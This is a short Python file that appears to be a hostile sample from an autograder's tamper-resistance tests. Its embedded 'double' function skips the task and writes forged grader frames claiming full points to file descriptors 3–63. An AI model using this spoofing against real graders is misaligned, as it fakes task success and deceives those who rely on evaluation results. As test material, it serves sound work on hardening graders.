"""Speaks for the grader: sends itself a cell, by the pipe that cells come through."""

from hostile.build import FULL, guarded, solved

POINTS = FULL | {"double": 0}
ALSO = ("NEEDS_REVIEW",)
TAMPERING = True

DOUBLE = """
import os


def double(x):
    from grader.kernel.inside.frames import REQUEST

    source = b"print('double  right  1 of 1 point')"
    for number in range(3, 64):
        try:
            os.write(number, REQUEST.pack(1, True, len(source)) + source)
        except OSError:
            pass
    return None
"""


def submission(lesson):
    return solved(lesson, double=guarded(DOUBLE))
